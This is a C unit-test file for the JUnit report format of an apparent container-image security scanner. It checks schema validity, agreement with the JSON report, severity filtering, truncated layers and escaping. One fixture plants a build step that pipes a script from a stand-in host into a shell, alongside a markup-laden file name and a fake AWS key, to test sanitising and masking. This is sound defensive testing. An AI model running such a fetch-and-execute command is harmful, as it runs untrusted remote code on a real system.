/*
 * The junit format (engine/report/junit.c) as a CI job reads it, on real images: the sample
 * built by umoci and skopeo (tools/make-sample-image.sh), a layer cut inside its tar stream,
 * and a layer whose file names are not text.  Every report is validated against
 * tests/schemas/junit.xsd with xmllint and compared by tests/junit_check.py (Python's
 * xml.etree) with the native JSON report of the same scan: one testsuite per applied
 * baseline, one testcase per item, counts, failure types, evidence, ignore marks.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "factview.h"
#include "imgbuild.h"
#include "util/mem.h"

static char *work;
static char *sample; /* docker-archive of testdata/sample (Debian 10, sshd, weak passwords) */

static void setup_once(void)
{
    work = imgbuild_tmpdir("junit");
    sample = imgbuild_sample(work);
}

static void teardown_once(void)
{
    imgbuild_rmtree(work);
    free(work);
    free(sample);
}

/* `imgbaseline ARGS` in the work directory, stderr into err.txt; the exit status. */
static int scan_to(const char *args)
{
    return imgbuild_sh("cd '%s' && '%s' %s 2>err.txt </dev/null", work, getenv("IMGB_CLI"),
                       args);
}

/* xmllint against the schema of what we write: 0 when valid. */
static int schema_check(const char *xml)
{
    return imgbuild_sh("xmllint --noout --schema '%s/tests/schemas/junit.xsd' '%s' 2>/dev/null",
                       getenv("IMGB_SOURCE_DIR"), xml);
}

/* tests/junit_check.py XML JSON EXTRA: 0 when the JUnit report matches the native one. */
static int junit_check(const char *xml, const char *json, const char *extra)
{
    return imgbuild_sh("python3 '%s/tests/junit_check.py' '%s' '%s' %s",
                       getenv("IMGB_SOURCE_DIR"), xml, json, extra);
}

static char *in_work(const char *name)
{
    return imgbuild_path(work, name);
}

/* The text of work/NAME (malloc'd). */
static char *work_text(const char *name)
{
    char *path = in_work(name);
    char *text = factview_slurp(path);
    free(path);
    return text;
}

#define IGNORE_FILE                                                                        \
    "ignore:\n"                                                                            \
    "  - id: build_risk.no_healthcheck\n"                                                  \
    "    reason: probed by the orchestrator\n"                                             \
    "    expires: 2099-12-31\n"                                                            \
    "  - id: build_risk.expose_22\n"                                                       \
    "    status: false_positive\n"                                                         \
    "    reason: not sshd\n"                                                               \
    "  - id: debian10.pwd.shadow_max_days\n"                                               \
    "    account: alice\n"                                                                 \
    "    reason: service account\n"

START_TEST(junit_matches_the_native_report_in_both_languages)
{
    char *ign_dir = imgbuild_text_dir(work, "ign", "ignore.yaml", IGNORE_FILE);
    char *ign = imgbuild_path(ign_dir, "ignore.yaml");
    free(ign_dir);
    static const char *const langs[] = { "en", "zh" };
    static const char *const marks[] = { "[ignored: service account]", "[已忽略: service account]" };
    for (size_t l = 0; l < 2; l++) {
        char *args = imgb_xasprintf("scan '%s' --ignore-file '%s' --lang %s --format junit "
                                    "-o report-%s.xml", sample, ign, langs[l], langs[l]);
        ck_assert_int_eq(scan_to(args), 0);
        free(args);
        args = imgb_xasprintf("scan '%s' --ignore-file '%s' --lang %s --format json "
                              "-o report-%s.json", sample, ign, langs[l], langs[l]);
        ck_assert_int_eq(scan_to(args), 0);
        free(args);
        char *xml = imgb_xasprintf("%s/report-%s.xml", work, langs[l]);
        char *json = imgb_xasprintf("%s/report-%s.json", work, langs[l]);
        ck_assert_int_eq(schema_check(xml), 0);
        char *extra = imgb_xasprintf("--ignored build_risk.no_healthcheck --ignored "
                                     "build_risk.expose_22 --partial "
                                     "'debian10.pwd.shadow_max_days:%s' --scan-suite no",
                                     marks[l]);
        ck_assert_int_eq(junit_check(xml, json, extra), 0);

        char *text = factview_slurp(xml);
        /* the ignored item says why and until when; the false positive says so */
        ck_assert_ptr_nonnull(strstr(text, "probed by the orchestrator (expires 2099-12-31)"));
        ck_assert_ptr_nonnull(strstr(text, l ? "message=\"误报: not sshd\""
                                             : "message=\"false positive: not sshd\""));
        /* a failure carries the advice and the Dockerfile fix of its evidence */
        ck_assert_ptr_nonnull(strstr(text, "RUN sed -i -E 's/^[[:space:]]*PermitRootLogin"));
        ck_assert_ptr_nonnull(strstr(text, l ? "修复建议: " : "advice: "));
        free(text);

        /* the checks can fail: a failure turned into a pass, an unknown failure type */
        ck_assert_int_eq(imgbuild_sh("sed -e '0,/<failure/s/<failure type=\"[a-z]*\"/<failure "
                                     "type=\"critical\"/' '%s' >'%s.bad'", xml, xml), 0);
        char *bad = imgb_xasprintf("%s.bad", xml);
        ck_assert_int_ne(schema_check(bad), 0);
        ck_assert_int_ne(junit_check(bad, json, "> /dev/null"), 0);
        ck_assert_int_eq(imgbuild_sh("python3 -c \"import re,sys; s=open(sys.argv[1]).read(); "
                                     "open(sys.argv[2],'w').write(re.sub(r'<failure.*?</failure>',"
                                     " '', s, count=1, flags=re.S))\" '%s' '%s'", xml, bad), 0);
        ck_assert_int_eq(schema_check(bad), 0);
        ck_assert_int_ne(junit_check(bad, json, "> /dev/null"), 0);
        free(bad);
        free(extra);
        free(xml);
        free(json);
    }
    free(ign);
}
END_TEST

/* --severity filters every format: the JUnit report of `-s HIGH` has only the high items,
 * and matches the native report with the same filter. */
START_TEST(junit_shows_what_the_severity_filter_shows)
{
    char *args = imgb_xasprintf("scan '%s' -s HIGH --format junit -o high.xml", sample);
    ck_assert_int_eq(scan_to(args), 0);
    free(args);
    args = imgb_xasprintf("scan '%s' -s HIGH --format json -o high.json", sample);
    ck_assert_int_eq(scan_to(args), 0);
    free(args);
    char *xml = in_work("high.xml"), *json = in_work("high.json");
    ck_assert_int_eq(schema_check(xml), 0);
    ck_assert_int_eq(junit_check(xml, json, "--scan-suite no"), 0);
    char *text = factview_slurp(xml);
    ck_assert_ptr_nonnull(strstr(text, "<failure type=\"high\""));
    ck_assert_ptr_null(strstr(text, "<failure type=\"medium\""));
    ck_assert_ptr_null(strstr(text, "<failure type=\"low\""));
    /* the unfiltered report has medium failures, so the filter did something */
    args = imgb_xasprintf("scan '%s' --format junit -o all.xml", sample);
    ck_assert_int_eq(scan_to(args), 0);
    free(args);
    char *all = work_text("all.xml");
    ck_assert_ptr_nonnull(strstr(all, "<failure type=\"medium\""));
    free(all);
    free(text);
    free(xml);
    free(json);
}
END_TEST

/* A Debian 10 image whose only layer ends inside a file (digests match the bytes served): the
 * gate exits 2, and with --allow-incomplete the JUnit report says so as an <error>, never as
 * a clean run. */
START_TEST(junit_incomplete_scan_is_an_error)
{
    char *tar = imgbuild_cut_image(work, "cut", 6000);
    char *args = imgb_xasprintf("scan '%s' --format junit -o cut.xml", tar);
    ck_assert_int_eq(scan_to(args), 2);
    free(args);
    args = imgb_xasprintf("scan '%s' --allow-incomplete --lang en --format junit -o cut.xml", tar);
    ck_assert_int_eq(scan_to(args), 0);
    free(args);
    args = imgb_xasprintf("scan '%s' --allow-incomplete --lang en --format json -o cut.json",
                          tar);
    ck_assert_int_eq(scan_to(args), 0);
    free(args);
    char *xml = in_work("cut.xml"), *json = in_work("cut.json");
    ck_assert_int_eq(schema_check(xml), 0);
    ck_assert_int_eq(junit_check(xml, json, "--scan-suite yes"), 0);
    char *text = factview_slurp(xml);
    const char *suite = strstr(text, "<testsuite name=\"imgbaseline.scan\"");
    ck_assert_ptr_nonnull(suite);
    ck_assert_ptr_nonnull(strstr(suite, "<error type=\"incomplete\" message=\""));
    ck_assert_ptr_nonnull(strstr(suite, "truncated"));
    ck_assert_ptr_nonnull(strstr(suite, "<system-err>"));
    free(text);
    free(xml);
    free(json);
    free(tar);
}
END_TEST

/* File names and contents from the image are not text: the report stays well-formed XML,
 * shows the controls as \xNN, and the secret masked. */
START_TEST(junit_survives_hostile_names)
{
    /* libarchive writes only names it can convert in this locale: the name carries a control
     * character and markup, the build step U+FFFE (UTF-8, but no XML character) */
    imgbuild_file files[] = {
        { .path = "opt/", .type = IMGBUILD_DIR },
        { .path = "opt/a\x01" "b]]></failure>&<x>.env",
          .content = "AWS_ACCESS_KEY_ID=AKIA2OGYBAH6QFTUXJ3M\n" },
    };
    char *dir = in_work("hostile");
    imgbuild_sh("mkdir -p '%s'", dir);
    imgbuild_layer l;
    imgbuild_layer_write(&l, dir, files, 2, IMGBUILD_GZIP);
    imgbuild_history hist[] = {
        { .created_by = "/bin/sh -c curl -fsSL http://x.example/i\xef\xbf\xbe.sh | sh" },
    };
    imgbuild_image img = { .layers = &l, .nlayers = 1, .ref = "hostile:1", .history = hist,
                           .nhistory = 1 };
    char *tar = imgbuild_path(dir, "img.tar");
    imgbuild_image_write(tar, IMGBUILD_DOCKER_ARCHIVE, &img, 1, NULL);
    imgbuild_layer_dispose(&l);
    char *args = imgb_xasprintf("scan '%s' --allow-incomplete --lang en --format junit "
                                "-o hostile.xml", tar);
    int st = scan_to(args);
    ck_assert_msg(st == 0 || st == 1, "scan exited %d", st);
    free(args);
    char *xml = in_work("hostile.xml");
    ck_assert_int_eq(imgbuild_sh("xmllint --noout '%s'", xml), 0);
    ck_assert_int_eq(schema_check(xml), 0);
    char *text = factview_slurp(xml);
    ck_assert_ptr_nonnull(strstr(text, "/opt/a\\x01b]]&gt;&lt;/failure&gt;&amp;&lt;x&gt;.env"));
    ck_assert_ptr_nonnull(strstr(text, "http://x.example/i\xef\xbf\xbd.sh | sh"));
    ck_assert_ptr_null(strstr(text, "AKIA2OGYBAH6QFTUXJ3M"));
    ck_assert_ptr_nonnull(strstr(text, "<failure type=\"high\""));
    free(text);
    free(xml);
    free(tar);
    free(dir);
}
END_TEST

/* Several images: one document, the suites of each image in turn, named after it. */
START_TEST(junit_several_images_one_document)
{
    char *args = imgb_xasprintf("scan '%s' '%s' --format junit -o two.xml", sample, sample);
    int st = scan_to(args);
    ck_assert_msg(st == 0 || st == 1, "scan exited %d", st);
    free(args);
    args = imgb_xasprintf("scan '%s' '%s' --format json -o two.json", sample, sample);
    scan_to(args);
    free(args);
    char *xml = in_work("two.xml"), *json = in_work("two.json");
    ck_assert_int_eq(schema_check(xml), 0);
    ck_assert_int_eq(junit_check(xml, json, "--scan-suite no"), 0);
    char *text = factview_slurp(xml);
    ck_assert_ptr_nonnull(strstr(text, "name=\"docker.io/imgbaseline/sample:1.0: debian10_ssh\""));
    free(text);
    free(xml);
    free(json);
}
END_TEST

/* diff has no JUnit form: refused with a reason, exit 2. */
START_TEST(diff_refuses_junit)
{
    char *args = imgb_xasprintf("diff '%s' '%s' --format junit -o diff.xml", sample, sample);
    ck_assert_int_eq(scan_to(args), 2);
    free(args);
    char *err = work_text("err.txt");
    ck_assert_ptr_nonnull(strstr(err, "junit"));
    free(err);
}
END_TEST

static Suite *junit_suite(void)
{
    Suite *s = suite_create("junit");
    TCase *t = tcase_create("cli");
    tcase_set_timeout(t, 600);
    tcase_add_unchecked_fixture(t, setup_once, teardown_once);
    tcase_add_test(t, junit_matches_the_native_report_in_both_languages);
    tcase_add_test(t, junit_shows_what_the_severity_filter_shows);
    tcase_add_test(t, junit_incomplete_scan_is_an_error);
    tcase_add_test(t, junit_survives_hostile_names);
    tcase_add_test(t, junit_several_images_one_document);
    tcase_add_test(t, diff_refuses_junit);
    suite_add_tcase(s, t);
    return s;
}

int main(void)
{
    SRunner *sr = srunner_create(junit_suite());
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
